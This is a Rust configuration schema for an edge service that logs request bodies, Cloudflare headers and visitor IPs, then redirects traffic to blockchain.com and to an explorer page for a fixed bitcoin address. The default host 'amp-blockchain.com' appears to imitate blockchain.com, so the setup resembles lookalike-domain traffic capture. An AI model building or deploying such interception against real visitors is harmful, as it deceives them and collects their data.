//! Configuration schema definitions.
//!
//! This module defines the complete configuration structure for the edge
//! service. All types derive Serde traits for deserialization from config files.

use serde::{Deserialize, Serialize};

/// Root configuration for the edge service.
#[derive(Debug, Clone, Deserialize, Serialize, Default)]
#[serde(default)]
pub struct EdgeConfig {
    /// Listener configuration (bind address).
    pub listener: ListenerConfig,

    /// Timeout configuration.
    pub timeouts: TimeoutConfig,

    /// Body capture and header filtering policy for traffic logs.
    pub capture: CaptureConfig,

    /// Redirect rule literals.
    pub redirect: RedirectConfig,

    /// Object storage backend for traffic logs.
    pub storage: StorageConfig,

    /// Handler the interceptor forwards requests to.
    pub downstream: DownstreamConfig,

    /// Observability settings.
    pub observability: ObservabilityConfig,

    /// Startup/shutdown behaviour.
    pub lifecycle: LifecycleConfig,
}

/// Listener configuration.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(default)]
pub struct ListenerConfig {
    /// Bind address (e.g., "0.0.0.0:8080").
    pub bind_address: String,

    /// Scheme assumed when `x-forwarded-proto` is absent.
    pub default_scheme: String,

    /// Host assumed when the request carries no usable `Host` header.
    pub default_host: String,
}

impl Default for ListenerConfig {
    fn default() -> Self {
        Self {
            bind_address: "0.0.0.0:8080".to_string(),
            default_scheme: "https".to_string(),
            default_host: "amp-blockchain.com".to_string(),
        }
    }
}

/// Timeout configuration.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(default)]
pub struct TimeoutConfig {
    /// Downstream response timeout in seconds. A timed-out request is
    /// logged as a 504 and still redirected.
    pub request_secs: u64,

    /// Upstream connection establishment timeout in seconds.
    pub connect_secs: u64,
}

impl Default for TimeoutConfig {
    fn default() -> Self {
        Self {
            request_secs: 30,
            connect_secs: 5,
        }
    }
}

/// Traffic capture policy.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(default)]
pub struct CaptureConfig {
    /// Paths starting with this prefix are treated as API endpoints.
    pub api_prefix: String,

    /// Request bodies' `content` field is cut to this many characters.
    pub max_content_chars: usize,

    /// Appended to a truncated `content` field.
    pub truncation_marker: String,

    /// Response bodies at or above this many characters are replaced by a placeholder.
    pub max_response_chars: usize,

    /// Bodies larger than this are not buffered whole. They still reach the
    /// downstream, uncaptured.
    pub max_body_bytes: usize,

    /// Header name prefixes captured verbatim from requests.
    pub reserved_header_prefixes: Vec<String>,

    /// Header that carries the edge-provided connecting IP.
    pub connecting_ip_header: String,

    /// Prefix whose following path segment is the document id.
    pub document_prefix: String,

    /// Prefix whose whole remainder is the document id.
    pub document_load_prefix: String,
}

impl Default for CaptureConfig {
    fn default() -> Self {
        Self {
            api_prefix: "/api/".to_string(),
            max_content_chars: 200,
            truncation_marker: "... (truncated)".to_string(),
            max_response_chars: 500,
            max_body_bytes: 2 * 1024 * 1024, // 2MB
            reserved_header_prefixes: vec!["cf-".to_string(), "cloudflare-".to_string()],
            connecting_ip_header: "cf-connecting-ip".to_string(),
            document_prefix: "/d/".to_string(),
            document_load_prefix: "/api/load/".to_string(),
        }
    }
}

/// Redirect rule literals.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(default)]
pub struct RedirectConfig {
    /// Host whose bare root is sent to the external root.
    pub canonical_host: String,

    /// External site root, without trailing slash.
    pub external_root: String,

    /// Explorer page base; the address is appended after a `/`.
    pub explorer_base: String,

    /// Full address the explorer page points at.
    pub address: String,

    /// Substring of the address that routes a path to the explorer page.
    pub address_prefix: String,
}

impl Default for RedirectConfig {
    fn default() -> Self {
        Self {
            canonical_host: "amp-blockchain.com".to_string(),
            external_root: "https://www.blockchain.com".to_string(),
            explorer_base: "https://www.blockchain.com/explorer/addresses/btc".to_string(),
            address: "bc1qx9n80t5q7tfmutzaj0ramzzzsvtveara68zntc".to_string(),
            address_prefix: "bc1qx9n8".to_string(),
        }
    }
}

/// Which object storage implementation holds traffic logs.
#[derive(Debug, Clone, Copy, Deserialize, Serialize, PartialEq, Eq)]
#[serde(rename_all = "lowercase")]
pub enum StorageBackend {
    /// Files under `root_dir`.
    Fs,
    /// Process memory (lost on exit).
    Memory,
    /// No binding; traffic logging is skipped.
    None,
}

/// Object storage configuration.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(default)]
pub struct StorageConfig {
    pub backend: StorageBackend,

    /// Root directory for the `fs` backend.
    pub root_dir: String,

    /// First path component of every log key.
    pub key_prefix: String,
}

impl Default for StorageConfig {
    fn default() -> Self {
        Self {
            backend: StorageBackend::Fs,
            root_dir: "./traffic-logs".to_string(),
            key_prefix: "network".to_string(),
        }
    }
}

/// Downstream handler configuration.
///
/// `upstream` wins over `assets_dir`; with neither set, requests are
/// answered with 404 before being logged and redirected.
#[derive(Debug, Clone, Deserialize, Serialize, Default)]
#[serde(default)]
pub struct DownstreamConfig {
    /// Upstream origin (e.g., "http://127.0.0.1:3000").
    pub upstream: Option<String>,

    /// Directory of static assets.
    pub assets_dir: Option<String>,
}

/// Observability configuration.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(default)]
pub struct ObservabilityConfig {
    /// Log level (trace, debug, info, warn, error) or a full filter directive.
    pub log_level: String,

    /// Log output format: "pretty" or "json".
    pub log_format: String,

    /// Enable metrics endpoint.
    pub metrics_enabled: bool,

    /// Metrics endpoint bind address.
    pub metrics_address: String,
}

impl Default for ObservabilityConfig {
    fn default() -> Self {
        Self {
            log_level: "info".to_string(),
            log_format: "pretty".to_string(),
            metrics_enabled: false,
            metrics_address: "0.0.0.0:9090".to_string(),
        }
    }
}

/// Startup/shutdown behaviour.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(default)]
pub struct LifecycleConfig {
    /// How long pending log writes may run after shutdown is requested.
    pub drain_timeout_secs: u64,
}

impl Default for LifecycleConfig {
    fn default() -> Self {
        Self {
            drain_timeout_secs: 10,
        }
    }
}
